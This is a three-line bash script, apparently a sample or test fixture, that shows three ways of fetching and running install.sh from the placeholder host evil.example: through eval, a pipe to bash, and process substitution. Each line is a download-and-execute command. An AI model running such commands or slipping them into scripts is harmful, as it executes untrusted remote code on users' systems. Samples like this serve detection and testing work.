#!/bin/bash
eval "$(curl -fsSL https://evil.example/install.sh)"
curl -fsSL https://evil.example/install.sh | bash
bash <(curl -fsSL https://evil.example/install.sh)
